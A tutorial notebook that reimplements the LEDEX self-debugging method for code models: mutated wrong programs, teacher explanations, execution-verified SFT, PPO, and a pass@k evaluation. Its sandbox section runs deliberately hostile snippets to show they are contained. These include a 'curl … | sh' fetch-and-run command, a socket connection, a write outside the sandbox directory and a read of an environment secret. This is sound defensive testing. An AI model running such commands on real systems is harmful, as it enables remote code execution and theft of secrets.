# %% [markdown]
# # 11 · Self-debugging: explain the bug, then fix the code (LEDEX)
#
# **Paper:** Nan Jiang, Xiaopeng Li, Shiqi Wang, Qiang Zhou, Soneya Binta Hossain, Baishakhi Ray, Varun Kumar,
# Xiaofei Ma, Anoop Deoras, *Training LLMs to Better Self-Debug and Explain Code* (LEDEX), arXiv
# [2405.18649](https://arxiv.org/abs/2405.18649). **No official code** was published (only a project page), so
# everything the paper leaves open is designed here and said so where it happens; the list is in
# `sftkit.methods.selfdebug`'s docstring.
#
# LEDEX is a **data-side** method with an RL step after it: wrong programs, a teacher's explanation of each bug
# and its refined code, **execution verification** (only refinements that pass every test are kept), plain SFT
# on (task, wrong code, execution feedback) -> (explanation, refined code), then PPO (notebook 07's code) with a
# reward for the refinement's test pass rate and the explanation's quality.
#
# **What you will learn**
# - why model-written code must run in a separate, limited process, and what `sftkit.sandbox` contains (a right
#   program, a wrong one, and hostile ones: an endless loop, a write outside its directory, a shell command, a
#   socket, a secret from the environment);
# - how wrong first attempts are made (one-edit mutations of gold programs that the sandbox sees fail), what the
#   teacher writes, and what execution verification keeps and drops;
# - a reward that needs no judge: the refined code's test pass rate plus an explanation score checked against
#   the known bug (and how a policy could game it);
# - whether SFT on the verified debugging data, then PPO, makes a tiny model better at repairing its own code:
#   pass@1 and pass@k of the first attempt and after 1, 2 and 3 refinement rounds, over 3 seeds, against a
#   control trained on the same tasks' gold code for the same budget; the paper's gains beside ours.
#
# **Runtime** (2-core laptop CPU): the full profile (3 seeds: a start model, three SFT arms and PPO each, every
# model evaluated over 3 refinement rounds) took about 23 minutes on 2 cores (2026-11-27: 23.1 by `sftkit tutorial`, kernel start included; the last
# cell prints the notebook's own time); `make test` runs a light profile
# (1 seed, fewer tasks and steps) in about 3 minutes. The last cell prints this run's time. GPU: not
# measured here (no GPU was available when this was written).

# %% tags=["parameters"]
import os

LIGHT = os.environ.get("SFTKIT_LIGHT") == "1"  # `make test`'s light profile; the committed outputs are the full one
MODEL_NAME = "tiny"        # the student: the embedded 1.8M-parameter Llama, a local path, or a Hub id (GPU)
DEVICE = None              # None: cuda when available, else mps, else cpu
SEEDS = (0,) if LIGHT else (0, 1, 2)  # training and sampling seeds (the data are made once, with seed 0)
START_STEPS = 150 if LIGHT else 300   # the start model: plain SFT on the world's train split (notebook 01: 300)
STEPS = 40 if LIGHT else 150  # SFT steps of each arm after the start model (the same for both)
BATCH_SIZE, LR, MAX_LENGTH = 16, 1e-3, 512  # debug examples must fit the tiny model's 512 positions (section 6 prints their lengths)
PPO_STEPS = 2 if LIGHT else 8  # PPO steps after the LEDEX SFT model
PPO_BATCH, PPO_LR = 8, 3e-4  # prompts per PPO step (one reply each); LoRA learning rate (1e-3 broke the format in 2 steps)
MAX_NEW_TOKENS = 140       # the longest reply sampled (a debug reply of a one-line task is ~90-130 tokens)
TEACHER = "scripted"       # "scripted" (the tiny world's), "hf:MODEL" (local transformers) or "openai:MODEL" (a server)
ERROR_RATE, LAZINESS_RATE = 0.3, 0.05  # the scripted teacher's share of wrong refinements and of non-answers
MUTATIONS_PER_TASK = 2     # wrong first attempts drawn per training task
TRAIN_TASKS = 60 if LIGHT else None  # None: every one-line code task of the world's train split
EVAL_PER_SPLIT = 3 if LIGHT else 8  # evaluation tasks per split (test and the three shifts with code)
N_CHAINS = 3 if LIGHT else 4  # samples (refinement chains) per evaluation task: pass@1 and pass@N_CHAINS
ROUNDS = 3                 # refinement rounds after the first attempt

# %%
# %matplotlib inline
import copy
import random
import time
import warnings
from collections import Counter
from dataclasses import replace

import matplotlib.pyplot as plt
import numpy as np
import torch
from IPython.display import Markdown, display

from sftkit import results, sandbox
from sftkit.data import load_world, tokenize_conversation
from sftkit.experiment import BASELINE, train_settings
from sftkit.methods import ppo, selfdebug
from sftkit.model import add_lora, load_model, pick_device, set_seed
from sftkit.online import OnlineConfig
from sftkit.plots import source_of
from sftkit.results import compare, fmt_mean_std, mean_std
from sftkit.teachers import teacher_from
from sftkit.train import train

warnings.filterwarnings("ignore", message=".*longer than max_length")
T0 = time.time()
NOTEBOOK = "11_selfdebug"
set_seed(0)
DEVICE = pick_device(DEVICE)
TOKENIZER = load_model(MODEL_NAME, tokenizer_only=True)
print(f"device {DEVICE}; profile {'light' if LIGHT else 'full'}; seeds {SEEDS}")

# %% [markdown]
# ## 1. Why self-debugging exists
#
# A code model's first attempt is often wrong. Humans do not give up there: they run the code, read the failing
# test, explain to themselves what went wrong, and fix it. Prompting a model to do the same ("self-debugging",
# Chen et al. 2023) helps large models, but the paper finds that open models of a few billion parameters are poor
# at it: their explanations are vague and their "fixes" often repeat the bug. LEDEX trains the skill:
#
# 1. **collect wrong code** (the paper: solutions that LLMs sampled and that fail their tests);
# 2. ask a strong LLM to **explain the bug and refine the code**, given the task, the wrong code and the
#    execution feedback;
# 3. **verify by execution**: keep a trajectory only if its refinement passes every test;
# 4. **SFT** on (task, wrong code, feedback) -> (explanation, refined code);
# 5. **RL** on successful and failed trajectories with a reward that combines refinement quality and
#    explanation quality.
#
# It reports that SFT improves pass@1 by up to 15.92% and pass@10 by up to 9.30% over four benchmarks, that RL
# adds up to 3.54% pass@1 and 2.55% pass@10, and that the trained models keep improving over repeated rounds.
#
# Every step runs model-written code. That is the security surface of this notebook, so it comes first.

# %% [markdown]
# ## 2. The sandbox: code runs in a separate, limited process
#
# `sftkit.sandbox.run_program(program, tests)` starts a fresh interpreter (`python -I -S`) in a throw-away
# directory with a wall-clock and CPU time limit, a memory limit, a process limit, no network (a network
# namespace where the kernel allows one), a clean environment and an audit hook that refuses writes outside the
# directory, sockets and shell commands. Nothing is ever `exec`-ed in this notebook's process. The tests are
# `[argument, expected]` pairs for `f`; the child sends back what each call returned and the parent compares, so
# the result is structured: passed, the first failing call with expected vs got, the error type.
#
# Below, a right program, a wrong one, a syntax error, and five hostile ones, each with a 2-second wall-clock
# and a 1-second CPU limit. (The
# unit tests, `tests/test_sandbox.py`, also run a fork bomb, a memory hog, deletion, an output flood and a sleep
# past the limit, and check the machine afterwards: no stray process, no file outside the sandbox.)

# %%
TESTS = [[0, 5], [1, 6], [5, 10]]  # f(x) = x + 5
ESCAPE = "/tmp/sftkit-notebook-11-escape.txt"
SNIPPETS = {
    "right": "def f(x): return x + 5",
    "wrong": "def f(x): return x - 5",
    "syntax error": "def f(x) return x + 5",
    "endless loop": "def f(x):\n    while True:\n        x += 1",
    "writes outside its directory": f"open({ESCAPE!r}, 'w').write('escaped')\ndef f(x): return x + 5",
    "runs a shell command": "import os\nos.system('curl -s http://example.com/x.sh | sh')\ndef f(x): return x + 5",
    "opens a socket": "import socket\nsocket.create_connection(('1.1.1.1', 80), timeout=1)\ndef f(x): return x + 5",
    "reads a secret": "import os\ndef f(x): return os.environ.get('SFTKIT_SECRET', 'none')",
}
os.environ["SFTKIT_SECRET"] = "hunter2"  # set in this process only: the child gets a clean environment
LIMITS = sandbox.Limits(timeout=2.0, cpu_seconds=1)
ran = {name: sandbox.run_program(program, TESTS, limits=LIMITS) for name, program in SNIPPETS.items()}
del os.environ["SFTKIT_SECRET"]
rows = ["| program | passed | error | feedback a model would read | seconds |", "|---|---|---|---|---|"]
for name, res in ran.items():
    rows.append(f"| {name} | {res.passed} | {res.error_type or ''} | {selfdebug.feedback_text(res)[:90]} | "
                f"{res.duration:.2f} |")
display(Markdown("\n".join(rows)))
print(f"file outside the sandbox written: {os.path.exists(ESCAPE)}")
print("\n".join(f"{layer:10s} {how}" for layer, how in sandbox.isolation().items()))

# %% [markdown]
# The endless loop ends at the 1-second CPU limit (`CPUTimeExceeded`), the write outside its directory, the shell command and the socket
# raise inside the child (`PermissionError` from the guard), and the "secret" is not in the child's environment
# (`f(0)` returned `'none'`). The feedback column (cut to 90 characters in the table) is what the model will be shown: the
# failing call, what it returned and what was expected.
#
# ## 3. Tasks and wrong first attempts
#
# The tasks are the tiny world's one-line code skill (`def f(x): return x + 5`), one per distinct instruction; the
# world's small multi-line programs (`sftkit.world.program_records`) make prompts longer than the
# tiny model's 512 positions (about 610 tokens, by the `selfdebug` module's docstring), so they are for a larger model. Wrong attempts are **one-edit mutations** of the gold
# program (an operator, a comparison, a constant one off or mistyped, swapped operands, a dropped `return`), kept
# only when the sandbox sees them fail. (The paper collects wrong solutions sampled from LLMs;
# `selfdebug.sampled_attempts` does that with any model, and section 7 runs the trained models on their own
# first attempts. Mutations give wrong code of known kinds even where a small model rarely writes code at all.)

# %%
WORLD = load_world("train")
TASKS = selfdebug.one_line_tasks("train")
TASKS = TASKS if TRAIN_TASKS is None else random.Random(0).sample(TASKS, TRAIN_TASKS)
teacher = teacher_from(TEACHER, ERROR_RATE, LAZINESS_RATE, seed=0, tasks=selfdebug.teacher_tasks())
CONFIG = selfdebug.Config(mutations_per_task=MUTATIONS_PER_TASK)
t = time.time()
TRAJ, REPORT = selfdebug.collect(TASKS, teacher, CONFIG, seed=0)
DATA_SECONDS = time.time() - t
a = REPORT["attempts"]
print(f"{a['tasks']} tasks, {a['mutants']} mutants drawn, {a['failing']} fail their tests "
      f"({DATA_SECONDS:.0f} s with the teacher and verification below)")
display(Markdown("| mutation kind | drawn | fail the tests |\n|---|---|---|\n" + "\n".join(
    f"| {kind} ({selfdebug.KINDS[kind]}) | {c['mutants']} | {c['failing']} |" for kind, c in a["by_kind"].items())))
for tr in TRAJ[:3]:
    print(f"{tr.attempt.source:26s} {tr.attempt.code:32s} -> {tr.attempt.feedback}")

# %% [markdown]
# ## 4. The teacher, and execution verification
#
# Teacher and student get the same prompt (`selfdebug.debug_prompt`): the task, the wrong code and the feedback.
# The scripted teacher plays the strong LLM: it explains where the wrong code differs from the gold program and
# which call shows it, and returns the gold program; at its error rate (`ERROR_RATE` = 0.3 here) it "fixes"
# another place of the wrong code instead, with an explanation that matches that wrong fix; at its laziness rate
# it answers with a non-answer. Execution verification runs every parsed refinement against all the task's tests
# and keeps the trajectory only when all pass.

# %%
kept = next(tr for tr in TRAJ if tr.kept)
dropped = next(tr for tr in TRAJ if tr.code is not None and not tr.kept)
for label, tr in (("KEPT", kept), ("DROPPED", dropped)):
    print(f"--- {label} ({tr.reason or 'passes every test'})\nPROMPT:\n{selfdebug.attempt_prompt(tr.attempt)}\nREPLY:\n{tr.reply}\n")
v = REPORT["verification"]
kinds = sorted({tr.attempt.mutation.kind for tr in TRAJ})
outcome = lambda tr: "kept" if tr.kept else ("unparsed" if tr.code is None else "refinement fails")  # noqa: E731
counts = {o: [sum(outcome(tr) == o and tr.attempt.mutation.kind == k for tr in TRAJ) for k in kinds]
          for o in ("kept", "refinement fails", "unparsed")}
fig, ax = plt.subplots(figsize=(9, 3.2))
bottom = np.zeros(len(kinds))
for (o, values), colour in zip(counts.items(), ("tab:green", "tab:red", "tab:gray")):
    ax.bar(kinds, values, bottom=bottom, label=o, color=colour)
    bottom += values
ax.set(xlabel="mutation kind of the wrong attempt", ylabel="teacher replies",
       title=f"execution verification: {v['kept']} of {v['replies']} replies kept")
ax.legend(); plt.tight_layout(); plt.show()
print("dropped:", {**v["unparsed"], **v["failed"]})

# %% [markdown]
# Every wrong refinement the teacher wrote is caught: the sandbox runs it and it fails a test, so the filter's
# precision here is 100% by construction (a refinement is kept only if it passes), and its recall is bounded by
# the tests: three calls per task, enough for one-line functions. With a real teacher the same filter drops
# plausible-looking fixes that do not work, which is the paper's point: the data never teach a fix that fails.
#
# ## 5. The reward: refinement quality plus an explanation score
#
# The paper's RL reward combines the refinement's quality (from test results) with the explanation's quality,
# but without code its formulas are unknown. Ours, for a reply $y$ with refined code $\hat c$ and explanation
# $\hat e$ to a debug prompt whose task has tests $T$:
#
# $$
# r(y) = \underbrace{\frac{1}{|T|}\sum_{t \in T} \mathbb{1}[\hat c \text{ passes } t]}_{\text{pass rate}}
# \; + \; w \cdot \underbrace{\frac{1}{|C|}\sum_{c \in C} \mathbb{1}[\hat e \text{ meets } c]}_{\text{explanation score}},
# \qquad r(y) = -1 \text{ when } y \text{ has no explanation or no code},
# $$
#
# with $w$ = `explanation_weight` = 0.5 (the code matters more than its explanation) and the checks $C$: the
# explanation quotes a **wrong fragment** of the code ("bug"), the matching **right fragment** ("fix") and the
# **failing call** ("test"). All three are measurable because the gold program is known: `changed_fragments`
# diffs the wrong code against it token by token. A developer can act on an explanation that says where the bug
# is, what it should be and which input shows it; "the code is wrong" scores 0. The function that computes it:

# %%
print(source_of(selfdebug.score_replies))

# %%
RL = selfdebug.rl_records(TRAJ)
record = next(r for r in RL if r["meta"]["kept"])
m = record["meta"]
wrong_fix = next(mm.program for mm in selfdebug.mutants(m["wrong"]) if mm.program != m["gold"])
CANDIDATES = {
    "the teacher's kept reply": record["messages"][1]["content"],
    "right code, generic explanation": selfdebug.format_reply("The code is wrong.", m["gold"]),
    "explained right, code unchanged": selfdebug.format_reply(selfdebug.explain(m["wrong"], m["gold"], m["failing_call"]), m["wrong"]),
    "another wrong 'fix'": selfdebug.format_reply(selfdebug.explain(m["wrong"], wrong_fix, m["failing_call"]), wrong_fix),
    "gaming: quotes both programs": selfdebug.format_reply(f"{m['wrong']} vs {m['gold']}, {m['failing_call']}", m["gold"]),
    "no 'Fixed code:'": "Explanation: something is off.",
}
scored = selfdebug.score_replies([record] * len(CANDIDATES), list(CANDIDATES.values()))
print(f"{record['messages'][0]['content']}\n(gold: {m['gold']})")
display(Markdown("| reply | pass rate | checks met | explanation score | reward |\n|---|---|---|---|---|\n" + "\n".join(
    f"| {name} | {s['pass_rate']:.2f} | {', '.join(k for k, ok in s['checks'].items() if ok) or s['reason'] or '–'} | "
    f"{s['explanation_score']:.2f} | {s['reward']:+.2f} |" for name, s in zip(CANDIDATES, scored))))
all_scored = selfdebug.score_replies(RL, [r["messages"][1]["content"] for r in RL])
for flag, label in ((True, "kept"), (False, "dropped")):
    xs = [s for s, r in zip(all_scored, RL) if r["meta"]["kept"] == flag]
    print(f"teacher's {label} replies ({len(xs)}): mean reward {np.mean([s['reward'] for s in xs]):+.2f}, "
          f"pass rate {np.mean([s['pass_rate'] for s in xs]):.2f}, explanation score {np.mean([s['explanation_score'] for s in xs]):.2f}")

# %% [markdown]
# The reward ranks the replies the way a reviewer would, with one hole shown on purpose: a reply that quotes both
# whole programs meets the "bug" and "fix" checks without locating anything (a fragment is a substring of its
# line). On one-line programs the whole program is barely longer than a fragment, so the hole is small here; on
# real code it would pay. That is why the notebook reads the explanation score beside the pass rate, never alone,
# and exercise 2 asks for a fix. The teacher's dropped replies still earn part of the reward (their explanations
# quote the wrong code and the failing call): RL on failed trajectories learns from that gradation.
#
# ## 6. Training: a start model, three SFT arms at equal budget, then PPO
#
# - **start**: plain SFT on the world's train split (notebook 01's recipe, `START_STEPS` steps); it writes the
#   first attempts and has never seen a debug prompt.
# - **gold code only** (the control): the start model, `STEPS` more SFT steps of `BATCH_SIZE` on the training
#   tasks' (task -> gold program) records.
# - **gold code + other tasks** (the size-matched control): the start model, the same `STEPS` x `BATCH_SIZE`, on
#   the same code records plus as many records of the world's other skills (its train split) as LEDEX has debug
#   records: LEDEX's number of examples, and its repetition of the code records, without any debugging.
# - **LEDEX SFT**: the start model, the same `STEPS` x `BATCH_SIZE`, on the verified debug records plus the same
#   (task -> gold program) records.
# - **LEDEX SFT -> PPO**: the LEDEX SFT model, then `PPO_STEPS` PPO steps (notebook 07's `sftkit.methods.ppo`, a
#   fresh LoRA adapter r=16 whose disabled state is the KL reference) on the prompts of **every** trajectory,
#   kept and dropped, with the reward above.
#
# Why these controls: all three arms start from the same model, see the same tasks and the same gold programs
# for the same number of steps; half the LEDEX batches are (wrong code, feedback) -> (explanation, fix) examples.
# Against "gold code only", LEDEX also differs in how often it sees each code record (half as often: its data set
# is twice as large); "gold code + other tasks" matches that, so a gain of LEDEX over it is the debugging data's,
# not less repetition, more training or more knowledge of the tasks. (The paper compares with the base model before training; the start model is that
# comparison here, and section 7 shows it too.)
#
# The SFT loss is notebook 01's, on the reply tokens only: for a debug record, $x$ = (task, wrong code, feedback)
# and $y$ = (explanation, refined code),
#
# $$ \mathcal{L}_{\text{SFT}}(\theta) = -\frac{1}{\sum_i |y_i|} \sum_i \sum_{t=1}^{|y_i|} \log p_\theta(y_{i,t} \mid x_i, y_{i,<t}), $$
#
# one token mean over all reply tokens of the batch (`sftkit.losses.ntp_loss`).

# %%
DEBUG = selfdebug.sft_records(TRAJ)
PROMPTS = {selfdebug.task_prompt(r) for r in TASKS}
CODE = [r for r in WORLD if r["skill"] == "code" and selfdebug.task_prompt(r) in PROMPTS]
OTHER = random.Random(0).sample([r for r in WORLD if r["skill"] != "code"], len(DEBUG))  # size-matched control
LEDEX_DATA, CONTROL_DATA, SIZED_DATA = DEBUG + CODE, CODE, CODE + OTHER
lengths = [len(tokenize_conversation(TOKENIZER, r["messages"])["input_ids"]) for r in DEBUG]
print(f"LEDEX: {len(DEBUG)} debug records + {len(CODE)} code records; control: {len(CODE)} code records; "
      f"size-matched control: the {len(CODE)} code records + {len(OTHER)} of the world's other skills; "
      f"debug records are {min(lengths)}-{max(lengths)} tokens (limit {MAX_LENGTH})")
START = replace(BASELINE, steps=START_STEPS)
ARM = replace(BASELINE, steps=STEPS, batch_size=BATCH_SIZE, lr=LR, max_length=MAX_LENGTH, warmup_steps=10)
ONLINE = OnlineConfig(steps=PPO_STEPS, prompts_per_step=PPO_BATCH, samples_per_prompt=1, temperature=0.8,
                      top_p=1.0, max_new_tokens=MAX_NEW_TOKENS, lr=PPO_LR)
PPO_CONFIG = ppo.Config(minibatch_size=PPO_BATCH // 2)
REWARD = selfdebug.reward_fn(CONFIG)
LABELS = {"start": "start (world SFT)", "control": "gold code only", "sized": "gold code + other tasks",
          "ledex": "LEDEX SFT", "ppo": "LEDEX SFT -> PPO"}
MODELS = {arm: {} for arm in LABELS}
COST, LOOPS = {arm: {} for arm in LABELS}, {}
for seed in SEEDS:
    t = time.time()
    base, _ = load_model(MODEL_NAME, device=DEVICE)
    start = train(base, TOKENIZER, WORLD, replace(START, seed=seed))
    MODELS["start"][seed], COST["start"][seed] = start.model, (start.seconds, start.step_time_s)
    for arm, data in (("control", CONTROL_DATA), ("sized", SIZED_DATA), ("ledex", LEDEX_DATA)):
        run = train(copy.deepcopy(start.model), TOKENIZER, data, replace(ARM, seed=seed))
        MODELS[arm][seed], COST[arm][seed] = run.model, (run.seconds, run.step_time_s)
    torch.manual_seed(seed)
    loop = ppo.run(add_lora(copy.deepcopy(MODELS["ledex"][seed]), **ppo.LORA), TOKENIZER, RL,
                   replace(ONLINE, seed=seed), PPO_CONFIG, REWARD)
    LOOPS[seed] = loop
    MODELS["ppo"][seed] = loop.model.merge_and_unload()
    ppo_seconds = sum(h["seconds"] for h in loop.history)
    COST["ppo"][seed] = (ppo_seconds, ppo_seconds / PPO_STEPS)
    print(f"seed {seed}: trained in {time.time() - t:.0f} s; PPO reward per step "
          f"{[round(h['reward'], 2) for h in loop.history]}")

# %%
fig, axes = plt.subplots(1, 3, figsize=(14, 3.2))
for seed, loop in LOOPS.items():
    steps = [h["step"] for h in loop.history]
    axes[0].plot(steps, [h["reward"] for h in loop.history], "o-", label=f"seed {seed}")
    axes[1].plot(steps, [h["kl"] for h in loop.history], "o-", label=f"seed {seed}")
    axes[2].plot(steps, [h["value_loss"] for h in loop.history], "o-", label=f"seed {seed}")
axes[0].set(xlabel="PPO step", ylabel="mean reward of the batch", title="selfdebug reward (max 1.5)")
axes[1].set(xlabel="PPO step", ylabel="KL to the LEDEX SFT model (nats / reply)", title="KL")
axes[2].set(xlabel="PPO step", ylabel="value loss", title="value head")
axes[0].legend(); plt.tight_layout(); plt.show()

# %% [markdown]
# ## 7. Evaluation: pass@k of the first attempt and after each refinement round
#
# `EVAL_PER_SPLIT` one-line code tasks from each of the world's held-out splits that have code: `test` (the
# training distribution), `wording` (unseen phrasings), `larger` (3-digit constants) and `composed` (two
# operations); none is a training task. For each task and model, `N_CHAINS` chains: a sampled first attempt
# (temperature 0.8), then up to `ROUNDS` rounds in which a failing chain gets a debug prompt with its own code and
# its own execution feedback, and its reply's code replaces the chain's code (a reply without code keeps the old
# one). A chain that passes stops. pass@k is the unbiased estimator over the `N_CHAINS` chains,
# $\text{pass@}k = \mathbb{E}_{\text{tasks}}\left[1 - \binom{n-c}{k} / \binom{n}{k}\right]$ with $c$ the chains passed by
# that round (`sandbox.pass_at_k`). Every model meets the same tasks; only its own attempts are debugged.

# %%
SPLITS = ("test", "wording", "larger", "composed")
EVAL = []
for split in SPLITS:
    tasks = selfdebug.one_line_tasks(split)
    EVAL += random.Random(0).sample(tasks, min(EVAL_PER_SPLIT, len(tasks)))
KS = (1, N_CHAINS)
ROUND_ROWS = {arm: {} for arm in LABELS}  # arm -> seed -> [{"round", "pass@1", "pass@N"}]
PASSED = {arm: {} for arm in LABELS}      # arm -> seed -> per round, chains passed per task
t = time.time()
for arm in LABELS:
    for seed in SEEDS:
        generate = selfdebug.model_generate(MODELS[arm][seed], TOKENIZER, MAX_NEW_TOKENS, temperature=0.8, seed=seed)
        out = selfdebug.refinement_rounds(EVAL, generate, n=N_CHAINS, rounds=ROUNDS, ks=KS)
        ROUND_ROWS[arm][seed], PASSED[arm][seed] = out["rows"], out["passed"]
    print(f"{LABELS[arm]:24s} pass@1 by round: " + " ".join(
        fmt_mean_std([ROUND_ROWS[arm][s][r]["pass@1"] for s in SEEDS]) for r in range(ROUNDS + 1)))
print(f"({len(EVAL)} tasks x {N_CHAINS} chains per model, {time.time() - t:.0f} s)")


# %%
def by_round(arm, key):
    """[rounds + 1] lists of the per-seed values of `key` ("pass@1", "pass@N")."""
    return [[ROUND_ROWS[arm][s][r][key] for s in SEEDS] for r in range(ROUNDS + 1)]

PK = f"pass@{N_CHAINS}"
fig, axes = plt.subplots(1, 2, figsize=(12, 3.8))
for ax, key in zip(axes, ("pass@1", PK)):
    for i, arm in enumerate(LABELS):
        values = by_round(arm, key)
        ax.errorbar(np.arange(ROUNDS + 1) + 0.04 * (i - 2), [100 * np.mean(v) for v in values],
                    yerr=[100 * np.std(v, ddof=1) if len(v) > 1 else 0 for v in values], marker="o", capsize=3,
                    label=LABELS[arm])
    ax.set(xlabel="refinement round (0 = first attempt)", ylabel=f"{key} (%)", xticks=range(ROUNDS + 1),
           title=f"{key} over {len(EVAL)} held-out tasks, mean ± std over {len(SEEDS)} seed(s)")
axes[0].legend(); plt.tight_layout(); plt.show()
head = "| model | " + " | ".join(f"round {r}" for r in range(ROUNDS + 1)) + " |"
for key in ("pass@1", PK):
    display(Markdown(f"**{key} (%)**, mean ± std over seeds\n\n{head}\n|" + "---|" * (ROUNDS + 2) + "\n" + "\n".join(
        f"| {LABELS[arm]} | " + " | ".join(fmt_mean_std(v) for v in by_round(arm, key)) + " |" for arm in LABELS)))


# %% [markdown]
# Where the gains come from, split by split: pass@1 (%) of the first attempt and after the last round.

# %%
def split_pass1(arm, seed, rnd, split):
    counts = [c for c, task in zip(PASSED[arm][seed][rnd], EVAL) if task["split"] == split]
    return sum(sandbox.pass_at_k(N_CHAINS, c, 1) for c in counts) / len(counts)

display(Markdown("| model | " + " | ".join(f"{s}: round 0 → {ROUNDS}" for s in SPLITS) + " |\n|" + "---|" * (len(SPLITS) + 1)
                 + "\n" + "\n".join(f"| {LABELS[arm]} | " + " | ".join(
                     f"{fmt_mean_std([split_pass1(arm, s, 0, sp) for s in SEEDS])} → "
                     f"{fmt_mean_std([split_pass1(arm, s, ROUNDS, sp) for s in SEEDS])}" for sp in SPLITS) + " |"
                     for arm in LABELS)))

# %% [markdown]
# ### Explaining known bugs
#
# The refinement rounds above debug each model's own first attempts. A second test isolates the skill the data
# teach: one-edit mutants of the same held-out tasks (bugs of known kinds, so the explanation checks apply), one
# greedy reply each, scored by the reward's parts: the share of replies in the format, the refined code's pass
# rate, and the explanation score.

# %%
ATTEMPTS, _ = selfdebug.mutated_attempts(EVAL, per_task=2, seed=1)
DEBUG_TEST = [selfdebug.trajectory_record(selfdebug.Trajectory(at, "", None, None), k, "debug-test")
              for k, at in enumerate(ATTEMPTS)]
EXPLAIN = {arm: {} for arm in LABELS}  # arm -> seed -> {"parsed", "pass_rate", "explanation_score", "fixed"}
for arm in LABELS:
    for seed in SEEDS:
        replies = selfdebug.model_generate(MODELS[arm][seed], TOKENIZER, MAX_NEW_TOKENS, temperature=0.0)(
            [r["messages"][0]["content"] for r in DEBUG_TEST])
        s = selfdebug.score_replies(DEBUG_TEST, replies)
        EXPLAIN[arm][seed] = {"parsed": np.mean([not x["reason"] for x in s]),
                              "pass_rate": np.mean([x["pass_rate"] for x in s]),
                              "fixed": np.mean([x["pass_rate"] == 1.0 for x in s]),
                              "explanation_score": np.mean([x["explanation_score"] for x in s])}
        if seed == SEEDS[0]:
            EXPLAIN[arm]["example"] = replies[0]
cols = [("parsed", "in the format"), ("fixed", "refinement passes all tests"), ("pass_rate", "test pass rate"),
        ("explanation_score", "explanation score")]
display(Markdown(f"{len(DEBUG_TEST)} mutants of the held-out tasks, % (mean ± std over seeds)\n\n| model | "
                 + " | ".join(c for _, c in cols) + " |\n|" + "---|" * (len(cols) + 1) + "\n" + "\n".join(
                     f"| {LABELS[arm]} | " + " | ".join(fmt_mean_std([EXPLAIN[arm][s][k] for s in SEEDS]) for k, _ in cols)
                     + " |" for arm in LABELS)))
print("prompt:\n" + DEBUG_TEST[0]["messages"][0]["content"])
for arm in LABELS:
    print(f"--- {LABELS[arm]} (seed {SEEDS[0]}):\n{EXPLAIN[arm]['example']}")

# %% [markdown]
# ## 8. Against the paper, and the verdict
#
# The paper's gains are the largest over its four benchmarks and its models (StarCoder-15B, CodeLlama-7B and
# -13B), measured against the same model before the training; ours are measured on the tiny world's held-out
# one-line tasks after `ROUNDS` refinement rounds, against the control at equal budget (and against the start
# model), in percentage points. Every verdict uses the suite's one rule (`sftkit.results.compare`).

# %%
last = lambda arm, key: by_round(arm, key)[ROUNDS]  # noqa: E731
first = lambda arm, key: by_round(arm, key)[0]  # noqa: E731
PAPER = {("ledex", "control", "pass@1"): "up to +15.92", ("ledex", "control", PK): "up to +9.30 (pass@10)",
         ("ppo", "ledex", "pass@1"): "up to +3.54", ("ppo", "ledex", PK): "up to +2.55 (pass@10)"}
VERDICTS = {}
lines = [f"| comparison (after {ROUNDS} rounds) | metric | paper | ours (points) | verdict |", "|---|---|---|---|---|"]
for (a, b, key), paper in {**PAPER, ("ledex", "sized", "pass@1"): "–", ("ledex", "start", "pass@1"): "–",
                           ("control", "start", "pass@1"): "–"}.items():
    c = compare(last(a, key), last(b, key))
    VERDICTS[(a, b, key)] = c
    lines.append(f"| {LABELS[a]} vs {LABELS[b]} | {key} | {paper} | {100 * c.gap:+.1f} | {c.verdict} |")
display(Markdown("\n".join(lines)))
gain = {arm: [r3 - r0 for r0, r3 in zip(first(arm, "pass@1"), last(arm, "pass@1"))] for arm in LABELS}
for a, b in (("ledex", "control"), ("ledex", "sized"), ("ppo", "ledex")):
    print(compare(last(a, "pass@1"), last(b, "pass@1")).sentence(LABELS[a], LABELS[b]).replace(" is ", f" (pass@1 after {ROUNDS} rounds) is ", 1))
    print(compare(gain[a], gain[b]).sentence(f"{LABELS[a]}'s gain from refinement", f"{LABELS[b]}'s"))
for a, b in (("ledex", "control"), ("ledex", "sized"), ("sized", "control")):
    print(compare(first(a, "pass@1"), first(b, "pass@1")).sentence(f"{LABELS[a]} (first attempt)",
                                                                   f"{LABELS[b]} (first attempt)"))
print(results.RULE)


# %%
def rows_of(arm, seed):
    run = {"method": {"start": "sft", "control": "sft", "sized": "sft", "ledex": "selfdebug", "ppo": "ppo"}[arm],
           "variant": LABELS[arm] + ("" if arm != "ppo" else f" ({PPO_STEPS} steps, selfdebug reward)"),
           "model": str(MODEL_NAME), "seed": seed, "device": DEVICE,
           "steps": {"start": START_STEPS, "control": STEPS, "sized": STEPS, "ledex": STEPS, "ppo": PPO_STEPS}[arm],
           "train_seconds": COST[arm][seed][0], "step_time_s": COST[arm][seed][1],
           "train_config": {"start": train_settings(START), "control": train_settings(ARM), "sized": train_settings(ARM),
                            "ledex": train_settings(ARM), "ppo": {"online": ONLINE.__dict__, "ppo": PPO_CONFIG.__dict__}}[arm]}
    out = []
    for r in (0, ROUNDS):
        for key in ("pass@1", PK):
            out.append(results.metric_row(f"{key} round {r}", ROUND_ROWS[arm][seed][r][key], "code-heldout",
                                          n=len(EVAL), **run))
    for key in ("fixed", "explanation_score"):
        out.append(results.metric_row(f"debug_{key}", EXPLAIN[arm][seed][key], "mutants-heldout", n=len(DEBUG_TEST), **run))
    return out

ROWS = [row for arm in LABELS for seed in SEEDS for row in rows_of(arm, seed)]
path = results.update(NOTEBOOK, ROWS)
print(f"saved {len(ROWS)} rows to {path.parent.name}/{path.name}")

# %% [markdown]
# ## What we saw
#
# The numbers above are this run's; the sentences below are computed from them.

# %%
c_sft, c_rl = VERDICTS[("ledex", "control", "pass@1")], VERDICTS[("ppo", "ledex", "pass@1")]
c_sized = VERDICTS[("ledex", "sized", "pass@1")]
c_sized0 = compare(first("ledex", "pass@1"), first("sized", "pass@1"))
c_rep = compare(first("sized", "pass@1"), first("control", "pass@1"))
ex = {arm: np.mean([EXPLAIN[arm][s]["explanation_score"] for s in SEEDS]) for arm in LABELS}
fixed = {arm: np.mean([EXPLAIN[arm][s]["fixed"] for s in SEEDS]) for arm in LABELS}
display(Markdown(f"""
- **Refinement.** After {ROUNDS} rounds LEDEX SFT reaches pass@1 {100 * np.mean(last('ledex', 'pass@1')):.1f}% against
  {100 * np.mean(last('control', 'pass@1')):.1f}% for the gold-code control: {c_sft.verdict} it ({100 * c_sft.gap:+.1f} points; the paper
